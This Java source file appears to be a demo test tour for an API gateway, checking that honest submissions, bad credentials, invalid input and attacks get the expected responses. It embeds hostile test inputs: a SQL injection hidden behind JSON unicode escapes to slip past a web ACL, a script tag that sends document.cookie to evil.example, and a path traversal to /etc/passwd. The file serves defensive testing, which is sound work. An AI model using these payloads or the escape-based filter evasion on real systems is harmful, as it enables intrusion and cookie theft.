package dev.rampart.local.demo;

import dev.rampart.local.client.ApiClient;
import dev.rampart.local.client.ApiClient.Answer;
import dev.rampart.local.client.ApiUser;
import java.io.IOException;
import java.util.Map;
import java.util.UUID;

/** What any client can do of the tour, wherever the API runs. */
record Tour(ApiClient api, Report report) {
  private static final String HONEST =
      """
      {"title": "O'Brien's roof leaks", "description": "Select a plumber from the list; a < b & c.",
       "category": "bug", "contactEmail": "ann@example.com", "tags": ["roof"]}
      """;
  private static final String INVALID =
      """
      {"title": "", "description": "x", "category": "weather", "contactEmail": "nobody", "id": "1"}
      """;

  /** Behind JSON's escapes, which the web ACL does not undo; without them it would refuse it. */
  private static final String HOSTILE =
      """
      {"title": "Hello", "description": "\\u0027 \\u0055NION \\u0053ELECT password FROM users WHERE '1'='1' --",
       "category": "bug", "contactEmail": "ann@example.com"}
      """;

  private static final String SCRIPT =
      """
      {"title": "<script>fetch('//evil.example/'+document.cookie)</script>", "description": "Hi",
       "category": "bug", "contactEmail": "ann@example.com"}
      """;

  /** Submits what is good and reads it back; returns its id. */
  String honest(ApiUser ann) throws IOException, InterruptedException {
    String key = UUID.randomUUID().toString();
    Answer created = ann.submit(key, HONEST);
    String id = created.body().path("id").asText();
    expect("submit", created, 201, "", !id.isEmpty());
    Answer again = ann.submit(key, HONEST);
    expect(
        "submit again with the same key: the first answer",
        again,
        201,
        "",
        again.body().equals(created.body()));
    Answer read = ann.get("/v1/submissions/" + id);
    expect(
        "read it back, text unchanged",
        read,
        200,
        "",
        read.body().path("title").asText().equals("O'Brien's roof leaks"));
    Answer list = ann.get("/v1/submissions");
    expect("list the own ones", list, 200, "", list.body().toString().contains(id));
    return id;
  }

  /** Does what a client does that was not made with care. */
  void clumsy(ApiUser ann) throws IOException, InterruptedException {
    Answer nobody = api.send("GET", "/v1/submissions", Map.of("x-api-key", ann.apiKey()), "");
    expect("without a token", nobody, 401, "token", true);
    Answer noKey =
        api.send("GET", "/v1/submissions", Map.of("Authorization", "Bearer " + ann.token()), "");
    expect("without an API key", noKey, 403, "plan", true);
    expect("a path that does not exist", ann.get("/v1/secrets"), 404, "edge", true);
    Answer invalid = ann.submit(UUID.randomUUID().toString(), INVALID);
    int faults = invalid.body().path("errors").size();
    expect(
        "an invalid submission: " + faults + " faults at once", invalid, 400, "input", faults > 2);
    Answer missing = ann.submit(UUID.randomUUID().toString(), "{}");
    expect("a body without what every submission has", missing, 400, "schema", true);
  }

  /** Writes with a token for reading. */
  void writeToRead(ApiUser reader) throws IOException, InterruptedException {
    Answer write = reader.submit(UUID.randomUUID().toString(), HONEST);
    expect("writing with a token for reading", write, 403, "token", true);
  }

  /** Looks for a file of the server, as scanners do. */
  void traversal(ApiUser ann) throws IOException, InterruptedException {
    Answer refused = ann.get("/v1/submissions?cursor=../../../etc/passwd");
    expect("a path traversal in the query", refused, 403, "waf", true);
  }

  /** Attacks so many times; the first of each kind is a step. */
  void hostile(ApiUser ann, int times) throws IOException, InterruptedException {
    for (int i = 0; i < times; i++) {
      boolean script = i % 2 == 1;
      Answer refused = ann.submit(UUID.randomUUID().toString(), script ? SCRIPT : HOSTILE);
      if (i < 2) {
        String what = script ? "a script in the title" : "SQL in the description";
        expect(what, refused, 422, "inspection", true);
      }
    }
  }

  /** Reports whether an answer is the one that is due. */
  void expect(String name, Answer answer, int status, String gate, boolean more) {
    boolean ok = answer.status() == status && answer.gate().equals(gate) && more;
    report.step(name, ok, answer.status(), answer.gate());
    if (!ok) {
      report.remark("expected " + status + " " + gate + ", got: " + answer.body());
    }
  }
}
